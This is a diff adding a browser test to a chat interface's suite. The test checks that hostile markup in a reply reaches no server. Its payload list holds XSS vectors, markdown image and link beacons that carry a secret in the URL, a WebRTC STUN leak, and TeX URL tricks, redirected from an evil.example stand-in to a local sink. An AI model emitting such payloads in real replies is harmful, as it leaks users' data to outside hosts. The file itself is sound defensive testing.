@@ -1,3 +1,6 @@
+import { createSocket } from "node:dgram";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { expect, lastReply, openPage, say, test, type Page } from "../../www/page-testing.ts";
 import { inPieces, scriptEngine } from "./scripted.mts";
 
@@ -109,6 +112,52 @@ test("a hostile reply runs nothing and has nothing fetched", async ({ page, base
   expect(found.elements).toEqual([]);
   expect(found.handlers).toEqual([]);
   expect(new Set(found.links)).toEqual(new Set(["https:"]));
+});
+
+test("no way out of a reply reaches a server that counts, and the same without the page's care does", async ({ page }) => {
+  const hits: string[] = [];
+  const sink = createServer((request, response) => {
+    hits.push(request.url ?? "");
+    response.setHeader("Access-Control-Allow-Origin", "*");
+    response.end("leaked");
+  });
+  // A connection of WebRTC's begins with a datagram.
+  const stun = createSocket("udp4", () => hits.push("stun"));
+  await new Promise<void>((resolve) => sink.listen(0, "127.0.0.1", resolve));
+  await new Promise<void>((resolve) => stun.bind(0, "127.0.0.1", resolve));
+  const at = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
+  const call = `new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${stun.address().port}'}]})`;
+  const connect = `(async()=>{const c=${call};c.createDataChannel('x');await c.setLocalDescription(await c.createOffer())})()`;
+  const ways = [
+    ...HOSTILE.map((text) => text.replaceAll("https://evil.example", at)),
+    `<img src=x onerror="${connect}">`,
+    `<script>${connect}</script>`,
+    `[a](javascript:${connect})`,
+    `![${at}/alt](${at}/image "${at}/title")`,
+    `[![a](${at}/inner)](${at}/outer)`,
+    `<${at}/autolink>`,
+    `<img src="${at}/raw?s3cret">`,
+    `![a](//127.0.0.1:${(sink.address() as AddressInfo).port}/relative)`,
+    `[a]: ${at}/definition`,
+    `$\\url{${at}/tex}$ $\\htmlData{x=${at}}{y}$`,
+  ].join("\n\n");
+  await showReply(page, `${ways}\n\nThe end.`);
+  await expect(lastReply(page)).toContainText("The end.");
+  await lastReply(page).getByRole("link").first().hover();
+  await page.waitForTimeout(700);
+  expect(hits).toEqual([]);
+  // The same text as a page: the server hears of it, so the test can fail.
+  const open = await page.context().newPage();
+  await open.goto(`${at}/open`);
+  await open.evaluate(connect);
+  await expect.poll(() => hits).toContain("stun");
+  // Some of it leads the page elsewhere at once.
+  await open.evaluate((html) => void setTimeout(() => (document.body.innerHTML = html)), ways);
+  await expect.poll(() => hits).toContain("/raw?s3cret");
+  await open.close();
+  sink.closeAllConnections();
+  sink.close();
+  stun.close();
 });
 
 test("a link shows where it goes and asks before it is followed", async ({ page }) => {
